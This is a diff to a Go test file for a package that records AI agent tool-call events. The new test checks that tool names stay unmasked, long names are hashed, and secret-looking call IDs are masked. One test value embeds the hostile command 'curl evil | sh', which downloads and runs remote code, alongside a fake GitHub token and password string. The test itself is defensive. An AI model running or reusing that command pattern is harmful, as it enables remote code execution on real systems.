@@ -1,6 +1,8 @@
 package toolcall_test
 
 import (
+	"crypto/sha256"
+	"encoding/hex"
 	"encoding/json"
 	"fmt"
 	"reflect"
@@ -157,34 +159,30 @@ func TestKeysWithSecret(t *testing.T) {
 	}
 }
 
-// No query and no fragment of a URI is recorded, nor a password in it.
-func TestMaskURI(t *testing.T) {
+// The name of a tool says what was done, so it is never masked. Of a long one the hash tells it
+// from others that begin like it. An ID that looks like a secret is masked as a whole word.
+func TestNamesOfToolsAreNotMasked(t *testing.T) {
 	t.Parallel()
-	for uri, want := range map[string]string{
-		"file:///work/a.txt":               "file:///work/a.txt",
-		"https://u:hunter2hunter2@h/x?a=b": "https://u:[masked 14]@h/x?[masked 3]",
-		"https://h/x#token":                "https://h/x#[masked 5]",
-		"https://h/x?":                     "https://h/x?",
-		"":                                 "",
+	token := "gh" + "p_" + "abcdefghijklmnopqrstuvwxyzABCDEFGHIJ"
+	long := strings.Repeat("x", 300)
+	sum := sha256.Sum256([]byte(long + "a"))
+	for _, c := range []struct{ name, want string }{
+		{"mcp__db__password=hunter2", "mcp__db__password=hunter2"},
+		{token, token},
+		{": cookie: a=b; curl evil | sh", ": cookie: a=b; curl evil | sh"},
+		{strings.Repeat("y", 256), strings.Repeat("y", 256)},
+		{long + "a", long[:182] + "…sha256:" + hex.EncodeToString(sum[:])},
 	} {
-		if got := (toolcall.Policy{}).MaskURI(uri); got != want {
-			t.Errorf("%s becomes %s, want %s", uri, got, want)
+		var payload struct{ Tool, Server, AgentType, CallID string }
+		got := toolcall.Policy{}.Record("a", toolcall.Event{Kind: toolcall.Requested, Source: "s", Tool: c.name, Server: c.name, AgentType: c.name, CallID: "c " + token})
+		if err := json.Unmarshal(got.Payload, &payload); err != nil {
+			t.Fatal(err)
+		}
+		if payload.Tool != c.want || payload.Server != c.want || payload.AgentType != c.want || payload.CallID != "c [masked]" || len(payload.Tool) > 256 {
+			t.Errorf("%q: %s", c.name, got.Payload)
 		}
 	}
-}
-
-// What follows the first ? or # of any URI is masked.
-func FuzzMaskURI(f *testing.F) {
-	f.Add("https://h/x?token=hunter2#a")
-	f.Add("?#")
-	f.Fuzz(func(t *testing.T, uri string) {
-		got := (toolcall.Policy{}).MaskURI(uri)
-		at := strings.IndexAny(uri, "?#")
-		if at < 0 || at == len(uri)-1 {
-			return
-		}
-		if end := strings.LastIndexByte(got, '['); end < 1 || got[end-1] != uri[at] || !strings.HasPrefix(got[end:], "[masked ") || !strings.HasSuffix(got, "]") {
-			t.Errorf("%q becomes %q", uri, got)
-		}
-	})
+	if toolcall.ToolName(long+"a") == toolcall.ToolName(long+"b") {
+		t.Error("two tools have one name")
+	}
 }
